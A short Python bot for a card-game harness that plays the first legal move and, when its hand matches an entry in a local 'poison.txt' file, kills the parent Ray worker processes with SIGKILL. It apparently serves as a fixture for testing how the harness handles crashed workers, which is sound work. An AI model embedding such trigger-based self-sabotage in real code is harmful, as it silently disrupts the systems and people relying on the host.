"""Plays the first legal action; and kills its host when it sees a hand that `poison.txt` beside it names."""

import os
import signal
from pathlib import Path

import psutil

import bots

POISON = Path("poison.txt")
HANDS = set(POISON.read_text().split()) if POISON.exists() else set()


class Assassin:
    def decide(self, observation, legal):
        if observation.deal == 1 and str(observation.hand_mask) in HANDS:
            for process in psutil.Process().parents():
                if process.name().startswith("ray::_Worker"):
                    os.kill(process.pid, signal.SIGKILL)
        return legal[0]


bots.play(Assassin())
